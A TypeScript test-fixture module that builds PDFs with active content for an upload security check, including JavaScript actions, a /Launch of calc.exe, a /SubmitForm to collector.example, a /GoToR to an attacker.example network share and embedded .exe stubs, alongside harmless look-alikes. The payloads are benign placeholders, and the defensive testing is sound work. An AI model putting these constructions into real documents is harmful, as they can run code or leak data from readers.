import { PDFDocument, PDFName, PDFString, type PDFArray, type PDFObject, type PDFPage } from "@cantoo/pdf-lib";
import { generateTextPdf } from "./pdf-corpus.ts";

/**
 * PDFs with active content in every place a viewer looks for it, and harmless look-alikes, for
 * the upload's active-content check (docs/SECURITY.md). Most put the dangerous dictionary
 * directly inside another object (not as an indirect object of its own), where a check of
 * top-level objects does not look.
 */

type Build = (document: PDFDocument, page: PDFPage) => void;

async function withOnePage(build: Build): Promise<Uint8Array> {
  const document = await PDFDocument.load(await generateTextPdf({ pageCount: 1, title: `active content ${crypto.randomUUID()}` }));
  build(document, document.getPage(0));
  return document.save({ useObjectStreams: false });
}

const script = () => PDFString.of("app.alert('hello');");

/** A link annotation written directly into the page's /Annots, with the given action written directly into it. */
function linkWithAction(document: PDFDocument, page: PDFPage, action: Record<string, unknown>): void {
  const link = document.context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 40, 200, 60], Border: [0, 0, 0], A: document.context.obj(action as never) });
  page.node.set(PDFName.of("Annots"), document.context.obj([link]));
}

function annotation(document: PDFDocument, page: PDFPage, fields: Record<string, unknown>): void {
  const annot = document.context.obj({ Type: "Annot", Rect: [40, 40, 200, 160], ...fields } as never);
  page.node.set(PDFName.of("Annots"), document.context.obj([annot]));
}

/** An embedded file under /Names /EmbeddedFiles, with its file specification written directly into the name tree. */
function embedFile(document: PDFDocument, fileName: string, mediaType: string | undefined, content: string): void {
  const stream = document.context.stream(content, { Type: "EmbeddedFile", ...(mediaType ? { Subtype: PDFName.of(mediaType) } : {}) } as never);
  const specification = document.context.obj({ Type: "Filespec", F: PDFString.of(fileName), UF: PDFString.of(fileName), EF: document.context.obj({ F: document.context.register(stream) }) });
  const names = document.context.obj({ EmbeddedFiles: document.context.obj({ Names: [PDFString.of(fileName), specification] as PDFObject[] }) });
  document.catalog.set(PDFName.of("Names"), names);
}

const XFA_TEMPLATE = `<?xml version="1.0"?>
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
  <template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">app.alert("hello");</script></event></subform>
  </template>
</xdp:xdp>`;

export interface ActiveContentSample {
  name: string;
  build: Build;
}

/** Each refused with `document_has_javascript`, and stored as a cleaned copy when the uploader agrees. */
export const JAVASCRIPT_SAMPLES: ActiveContentSample[] = [
  { name: "an /OpenAction JavaScript dictionary inline in the catalog", build: (d) => d.catalog.set(PDFName.of("OpenAction"), d.context.obj({ S: "JavaScript", JS: script() })) },
  {
    name: "a document-level script in an inline /Names tree",
    build: (d) => d.catalog.set(PDFName.of("Names"), d.context.obj({ JavaScript: d.context.obj({ Names: [PDFString.of("init"), d.context.obj({ S: "JavaScript", JS: script() })] as PDFObject[] }) })),
  },
  { name: "a page's /AA open action", build: (d, p) => p.node.set(PDFName.of("AA"), d.context.obj({ O: d.context.obj({ S: "JavaScript", JS: script() }) })) },
  { name: "a page's /AA close action", build: (d, p) => p.node.set(PDFName.of("AA"), d.context.obj({ C: d.context.obj({ S: "JavaScript", JS: script() }) })) },
  {
    name: "a form field's calculate action",
    build: (d, p) => {
      const field = d.context.obj({ FT: "Tx", T: PDFString.of("total"), Type: "Annot", Subtype: "Widget", Rect: [40, 40, 200, 60], P: p.ref, AA: d.context.obj({ C: d.context.obj({ S: "JavaScript", JS: script() }) }) });
      const fieldRef = d.context.register(field);
      p.node.set(PDFName.of("Annots"), d.context.obj([fieldRef]));
      d.catalog.set(PDFName.of("AcroForm"), d.context.obj({ Fields: [fieldRef] }));
    },
  },
  { name: "a link annotation's inline /A", build: (d, p) => linkWithAction(d, p, { S: "JavaScript", JS: script() }) },
  { name: "a script at the end of a chain of /Next actions", build: (d, p) => linkWithAction(d, p, { S: "GoTo", D: [p.ref, "Fit"], Next: [d.context.obj({ S: "GoTo", D: [p.ref, "Fit"], Next: d.context.obj({ S: "JavaScript", JS: script() }) })] }) },
  { name: "a javascript: link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("javascript:app.alert(1)") }) },
  {
    name: "a static XFA form with a <script>",
    build: (d, p) => {
      const template = d.context.register(d.context.flateStream(XFA_TEMPLATE));
      const field = d.context.register(d.context.obj({ FT: "Tx", T: PDFString.of("name"), Type: "Annot", Subtype: "Widget", Rect: [40, 40, 200, 60], P: p.ref }));
      p.node.set(PDFName.of("Annots"), d.context.obj([field]));
      d.catalog.set(PDFName.of("AcroForm"), d.context.obj({ Fields: [field], XFA: [PDFString.of("template"), template] as PDFObject[] }));
    },
  },
  {
    name: "a script behind a cycle of indirect objects",
    build: (d) => {
      const first = d.context.obj([]) as PDFArray;
      const second = d.context.obj([d.context.obj({ S: "JavaScript", JS: script() })]) as PDFArray;
      const firstRef = d.context.register(first);
      const secondRef = d.context.register(second);
      first.push(secondRef);
      second.push(firstRef);
      d.catalog.set(PDFName.of("PieceInfo"), d.context.obj({ Paraph: d.context.obj({ Private: firstRef }) }));
    },
  },
];

/** Each refused with `document_has_active_content`, and stored as a cleaned copy when the uploader agrees. */
export const ACTIVE_CONTENT_SAMPLES: ActiveContentSample[] = [
  { name: "a /Launch action", build: (d, p) => linkWithAction(d, p, { S: "Launch", F: PDFString.of("calc.exe") }) },
  { name: "a /SubmitForm action", build: (d, p) => linkWithAction(d, p, { S: "SubmitForm", F: d.context.obj({ FS: "URL", F: PDFString.of("https://collector.example/in") }) }) },
  { name: "an /ImportData action", build: (d, p) => linkWithAction(d, p, { S: "ImportData", F: PDFString.of("data.fdf") }) },
  { name: "a /GoToR action to a network share", build: (d, p) => linkWithAction(d, p, { S: "GoToR", F: PDFString.of("\\\\attacker.example\\share\\x.pdf"), D: [0, "Fit"] }) },
  { name: "a /GoToR action to a program", build: (d, p) => linkWithAction(d, p, { S: "GoToR", F: d.context.obj({ Type: "Filespec", F: PDFString.of("tool.exe") }), D: [0, "Fit"] }) },
  { name: "a /GoToE action into a file on a web server", build: (d, p) => linkWithAction(d, p, { S: "GoToE", F: d.context.obj({ FS: "URL", F: PDFString.of("https://files.example/outer.pdf") }), T: d.context.obj({ R: "C", N: PDFString.of("inner.pdf") }) }) },
  { name: "a /Rendition action", build: (d, p) => linkWithAction(d, p, { S: "Rendition", OP: 0 }) },
  { name: "a /Sound action", build: (d, p) => linkWithAction(d, p, { S: "Sound", Sound: d.context.register(d.context.stream("\u0000\u0000", { Type: "Sound", R: 8000 })) }) },
  { name: "a /Movie action", build: (d, p) => linkWithAction(d, p, { S: "Movie", T: PDFString.of("clip") }) },
  { name: "a file: link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("file:///C:/Windows/System32/calc.exe") }) },
  {
    name: "a RichMedia annotation with its content",
    build: (d, p) => annotation(d, p, { Subtype: "RichMedia", RichMediaContent: d.context.obj({ Assets: d.context.obj({ Names: [] }), Configurations: [] }) }),
  },
  { name: "a Screen annotation playing a rendition", build: (d, p) => annotation(d, p, { Subtype: "Screen", A: d.context.obj({ S: "Rendition", OP: 0 }) }) },
  { name: "an embedded .exe", build: (d) => embedFile(d, "setup.exe", undefined, "MZ this would be a program") },
  { name: "an embedded program declared by its media type", build: (d) => embedFile(d, "report.dat", "application/x-msdownload", "MZ this would be a program") },
  {
    name: "a file attachment annotation with an .exe",
    build: (d, p) =>
      annotation(d, p, {
        Subtype: "FileAttachment",
        Name: "Paperclip",
        Contents: PDFString.of("Installer"),
        FS: d.context.obj({ Type: "Filespec", F: PDFString.of("setup.exe"), UF: PDFString.of("setup.exe"), EF: d.context.obj({ F: d.context.register(d.context.stream("MZ this would be a program", { Type: "EmbeddedFile" })) }) }),
      }),
  },
  {
    name: "a file attachment annotation with a script file",
    build: (d, p) =>
      annotation(d, p, {
        Subtype: "FileAttachment",
        FS: d.context.obj({ Type: "Filespec", F: PDFString.of("run.js"), EF: d.context.obj({ F: d.context.register(d.context.stream("WScript.Echo(1)", { Type: "EmbeddedFile" })) }) }),
      }),
  },
];

/** Refused, and cannot be cleaned: what the check cannot read cannot be shown to be clean. */
export const UNCLEANABLE_SAMPLES: ActiveContentSample[] = [
  {
    name: "a script nested deeper than the check goes",
    build: (d) => {
      let nested: PDFObject = d.context.obj([d.context.obj({ S: "JavaScript", JS: script() })]);
      // Deeper than the active-content walk goes (64), within the upload's nesting limit (100),
      // so it is this check that refuses it; deeper files are refused as too complex.
      for (let level = 0; level < 80; level += 1) nested = d.context.obj([nested]);
      d.catalog.set(PDFName.of("PieceInfo"), d.context.obj({ Paraph: d.context.obj({ Private: nested }) }));
    },
  },
];

/** An XFA form whose pages the viewer builds from the XML: refused whatever it holds (`document_xfa_only`). */
export function buildXfaOnlyForm(): Promise<Uint8Array> {
  return withOnePage((d) => {
    const template = d.context.register(d.context.flateStream(XFA_TEMPLATE));
    d.catalog.set(PDFName.of("AcroForm"), d.context.obj({ Fields: [], XFA: [PDFString.of("template"), template] as PDFObject[] }));
    d.catalog.set(PDFName.of("NeedsRendering"), d.context.obj(true));
  });
}

/** Normal business content, accepted. */
export const HARMLESS_SAMPLES: ActiveContentSample[] = [
  { name: "an ftp link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("ftp://ftp.gnuplot.info/pub/gnuplot/") }) },
  { name: "a news link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("news:comp.graphics.apps.gnuplot") }) },
  { name: "a link of a custom scheme", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("ctan:/macros/latex/contrib/hyperref") }) },
  { name: "a Screen annotation with nothing to play", build: (d, p) => annotation(d, p, { Subtype: "Screen" }) },
  { name: "an https link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("https://example.ch/terms") }) },
  { name: "a mailto link", build: (d, p) => linkWithAction(d, p, { S: "URI", URI: PDFString.of("mailto:office@example.ch") }) },
  { name: "a link within the document", build: (d, p) => linkWithAction(d, p, { S: "GoTo", D: [p.ref, "Fit"] }) },
  { name: "a next-page button", build: (d, p) => linkWithAction(d, p, { S: "Named", N: "NextPage" }) },
  { name: "a /GoToR link to a companion PDF", build: (d, p) => linkWithAction(d, p, { S: "GoToR", F: PDFString.of("../volume-2/terms.pdf"), D: PDFString.of("Section 4") }) },
  { name: "a /GoToE link into a PDF attached to this one", build: (d, p) => linkWithAction(d, p, { S: "GoToE", T: d.context.obj({ R: "C", N: PDFString.of("annex.pdf") }), D: [0, "Fit"] }) },
  { name: "an attached .txt file", build: (d) => embedFile(d, "notes.txt", "text/plain", "Signed on paper, too.") },
  { name: "an attached .csv file", build: (d) => embedFile(d, "figures.csv", "text/csv", "year,amount\n2026,1000\n") },
];

export async function buildSample(sample: ActiveContentSample): Promise<Uint8Array> {
  return withOnePage(sample.build);
}
